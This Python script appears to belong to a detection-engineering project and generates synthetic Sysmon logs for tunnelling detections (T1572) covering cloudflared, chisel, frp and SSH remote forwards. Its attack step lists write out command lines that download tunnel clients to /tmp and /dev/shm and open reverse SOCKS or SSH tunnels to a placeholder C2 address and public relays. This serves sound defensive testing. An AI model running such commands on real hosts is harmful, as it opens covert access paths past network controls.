"""Regenerate the synthetic attack data (T1572) of escudo's other built-in tunnelling detections.

Run from the repository root::

    python src/escudo/data/attack_data/generate_tunnels.py

For each of "Linux Cloudflared Tunnel Usage", "Linux Chisel Or Frp Tunnel Client" and "Linux SSH Remote
Forward To Public Tunnel Relay" it writes an intrusion log and a benign log of near misses under
``datasets/attack_techniques/T1572/<tool>/``. Command lines follow ``../shared/reference/
linux-telemetry.md`` section 5.3; addresses are documentation ranges, tokens are made up.
"""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from sysmon_writer import Host, Proc, merge

ROOT = Path(__file__).parent / "datasets" / "attack_techniques" / "T1572"
SH, BASH = "/usr/bin/dash", "/usr/bin/bash"
CF_TOKEN = "eyJhIjoiNGY3ZTJmOTQiLCJ0IjoiYzFkMmUzZjQtYTViNi00YzdkLThlOWYiLCJzIjoiWm1GclpRPT0ifQ=="
C2 = "203.0.113.50"
TUNNEL_WORDS = (" tunnel ", " client ", " -R", "frpc ", "access tcp")

# (image, command line, user or None to inherit) run one after the other from a login shell.
Steps = list[tuple[str, str, str | None]]

CLOUDFLARED_ATTACK: Steps = [
    ("/usr/bin/id", "id", None),
    (
        "/usr/bin/curl",
        "curl -sSLo /tmp/cloudflared https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64",
        None,
    ),
    ("/usr/bin/chmod", "chmod +x /tmp/cloudflared", None),
    ("/tmp/cloudflared", "/tmp/cloudflared tunnel --url http://localhost:8080", None),
    ("/tmp/cloudflared", f"/tmp/cloudflared tunnel --no-autoupdate run --token {CF_TOKEN}", None),
    ("/usr/bin/sudo", "sudo cp /tmp/cloudflared /usr/local/bin/cloudflared", None),
    ("/usr/local/bin/cloudflared", f"cloudflared service install {CF_TOKEN}", "root"),
    (
        "/usr/local/bin/cloudflared",
        "cloudflared access tcp --hostname db.example.org --url localhost:5432",
        None,
    ),
]
CLOUDFLARED_BENIGN: Steps = [
    ("/usr/bin/apt-get", "apt-get install -y cloudflared", "root"),
    ("/usr/bin/cloudflared", "cloudflared --version", None),
    ("/usr/bin/cloudflared", "cloudflared update", None),
    ("/usr/bin/cloudflared", "cloudflared tunnel login", None),
    ("/usr/bin/cloudflared", "cloudflared tunnel list", None),
    ("/usr/bin/cloudflared", "cloudflared tunnel info web-app", None),
    ("/usr/bin/cloudflared", "cloudflared access login https://app.example.org", None),
    ("/usr/bin/cloudflared", "cloudflared service uninstall", "root"),
    ("/usr/bin/grep", "grep cloudflared /var/log/syslog", None),
    ("/usr/bin/systemctl", "systemctl status cloudflared", None),
]
CHISEL_ATTACK: Steps = [
    (
        "/usr/bin/wget",
        "wget -q https://github.com/jpillora/chisel/releases/download/v1.9.1/chisel_1.9.1_linux_amd64.gz -O /dev/shm/c.gz",
        None,
    ),
    ("/usr/bin/gzip", "gunzip /dev/shm/c.gz", None),
    ("/usr/bin/mv", "mv /dev/shm/c /dev/shm/chisel", None),
    ("/usr/bin/chmod", "chmod +x /dev/shm/chisel", None),
    ("/dev/shm/chisel", f"/dev/shm/chisel client {C2}:8443 R:socks", None),
    (
        "/dev/shm/chisel",
        f"/dev/shm/chisel client --auth ops:Winter2026 https://{C2}:443 R:2222:127.0.0.1:22",
        None,
    ),
    ("/usr/bin/tar", "tar -xzf /tmp/frp_0.52.3_linux_amd64.tar.gz -C /opt", None),
    ("/opt/frp_0.52.3_linux_amd64/frpc", "./frpc -c frpc.toml", None),
    (
        "/opt/frp_0.52.3_linux_amd64/frpc",
        f"/opt/frp_0.52.3_linux_amd64/frpc tcp -s {C2}:7000 -l 22 -r 6000",
        None,
    ),
]
CHISEL_BENIGN: Steps = [
    ("/usr/local/bin/chisel", "chisel --version", None),
    ("/usr/local/bin/chisel", "chisel server --port 9312", None),
    ("/usr/local/bin/frpc", "frpc --help", None),
    ("/usr/local/bin/frps", "frps -c /etc/frp/frps.toml", "root"),
    ("/usr/bin/grep", "grep chisel /var/log/auth.log", None),
    ("/usr/bin/tar", "tar -tzf frp_0.52.3_linux_amd64.tar.gz", None),
    ("/usr/bin/vim.basic", "vim frpc.toml", None),
]
SSH_ATTACK: Steps = [
    ("/usr/bin/ssh", "ssh -R 80:localhost:8080 serveo.net", None),
    ("/usr/bin/ssh", "ssh -R 80:localhost:3000 nokey@localhost.run", None),
    ("/usr/bin/ssh", "ssh -p 443 -R0:localhost:8000 a.pinggy.io", None),
    ("/usr/bin/ssh", "ssh -R 0:localhost:22 v2@connect.ngrok-agent.com tcp 22", None),
    ("/usr/bin/autossh", "autossh -M 0 -N -R 0:localhost:22 -p 443 tcp@a.pinggy.io", None),
]
SSH_BENIGN: Steps = [
    ("/usr/bin/ssh", "ssh -L 5432:localhost:5432 db.internal", None),
    ("/usr/bin/ssh", "ssh -R 2222:localhost:22 ops@bastion.example.org", None),
    ("/usr/bin/ssh", "ssh -D 1080 alice@vps.example.org", None),
    ("/usr/bin/curl", "curl -s https://serveo.net", None),
    ("/usr/bin/ping", "ping -c1 localhost.run", None),
    ("/usr/bin/scp", "scp -r ./site deploy@tuns.sh:", None),
    ("/usr/bin/ssh-keygen", "ssh-keygen -t ed25519 -f /home/alice/.ssh/id_pinggy", None),
]


def run_steps(host: Host, shell: Proc, steps: Steps, *, start: float) -> None:
    """Each step as a child of ``shell``, 11.5 s apart; tunnel clients connect out (EventID 3)."""
    for index, (image, cmdline, user) in enumerate(steps):
        at = start + 11.5 * index
        proc = host.exec(shell, image, cmdline, at=at, user=user)
        if image.endswith("/autossh"):  # autossh runs ssh with the same forwarding
            ssh_line = cmdline.replace("autossh -M 0", "/usr/bin/ssh", 1)
            proc = host.exec(proc, "/usr/bin/ssh", ssh_line, at=at + 0.02)
        if any(word in cmdline for word in TUNNEL_WORDS):
            host.connect(
                proc,
                at=at + 0.3,
                src="10.30.2.14",
                sport=43000 + proc.pid % 1000,
                dst=C2,
                dport=443,
            )


def session(host: Host, user: str, uid: int) -> Proc:
    """An ssh login shell of ``user`` (sshd listener -> [priv] -> user@pts -> -bash)."""
    sshd = host.existing(
        pid=902, image="/usr/sbin/sshd",
        cmdline="sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", user="root",
    )  # fmt: skip
    priv = host.exec(
        sshd, "/usr/sbin/sshd", f"sshd: {user} [priv]", at=1.0, login_uid=uid, session=5
    )
    pts = host.exec(priv, "/usr/sbin/sshd", f"sshd: {user}@pts/0", at=1.4, user=user)
    return host.exec(pts, BASH, "-bash", at=1.5, cwd=f"/home/{user}")


def scenario(name: str, prefix: str, pid: int, record: int, user: str, steps: Steps) -> list[str]:
    host = Host(name, guid_prefix=prefix, sysmon_pid=pid, first_record=record)
    run_steps(host, session(host, user, 1001), steps, start=20.0)
    return merge(host)


DATASETS: dict[str, tuple[tuple[str, str, int, int, str, Steps], ...]] = {
    "cloudflared/cloudflared_linux-sysmon.log": (
        ("app-03", "3b7d0e19", 733, 90211, "deploy", CLOUDFLARED_ATTACK),
    ),
    "cloudflared/cloudflared_linux-sysmon-benign.log": (
        ("dev-07", "8e21f6a0", 655, 3412, "alice", CLOUDFLARED_BENIGN),
    ),
    "chisel/chisel_frp_linux-sysmon.log": (
        ("build-05", "d04c6a7e", 702, 15520, "jenkins", CHISEL_ATTACK),
    ),
    "chisel/chisel_frp_linux-sysmon-benign.log": (
        ("ops-01", "61f9b2c3", 640, 7704, "alice", CHISEL_BENIGN),
    ),
    "ssh_relay/ssh_remote_forward_linux-sysmon.log": (
        ("web-07", "a9e3157d", 815, 40021, "www-admin", SSH_ATTACK),
    ),
    "ssh_relay/ssh_remote_forward_linux-sysmon-benign.log": (
        ("dev-07", "8e21f6a0", 655, 3520, "alice", SSH_BENIGN),
    ),
}


def render(relative: str) -> str:
    """The text of one dataset file."""
    lines = [line for spec in DATASETS[relative] for line in scenario(*spec)]
    return "\n".join(lines) + "\n"


def main() -> None:
    for relative in DATASETS:
        out = ROOT / relative
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_text(render(relative), encoding="utf-8")
        print(f"wrote {out}")


if __name__ == "__main__":
    main()
